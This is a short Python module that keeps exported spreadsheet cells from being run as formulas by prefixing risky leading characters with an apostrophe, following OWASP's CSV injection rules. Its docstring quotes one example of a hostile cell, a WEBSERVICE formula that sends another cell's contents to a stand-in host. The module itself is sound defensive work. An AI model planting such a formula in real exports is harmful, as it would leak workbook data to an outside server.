"""Cells for exported spreadsheets: text that Excel or LibreOffice never runs as a formula.

A name or summary typed as `=WEBSERVICE("http://x/?"&B2)` would otherwise become a live
formula in the coordinator's workbook (openpyxl writes any text starting with `=` as one) or
in a CSV opened in a spreadsheet. Following OWASP's CSV injection rules, text starting with
`=`, `+`, `-`, `@`, a tab or a carriage return gets a leading apostrophe: it stays readable,
and spreadsheets take the cell as text. Numbers, dates and empty cells pass unchanged.
Characters XML 1.0 does not allow are stripped first (`callcenter.characters`): XLSX is XML.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from callcenter.characters import clean_cell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """Return a cell's value as text no spreadsheet evaluates (other values unchanged)."""
    value = clean_cell(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """Return a row of cells through `safe_cell`."""
    return [safe_cell(v) for v in values]
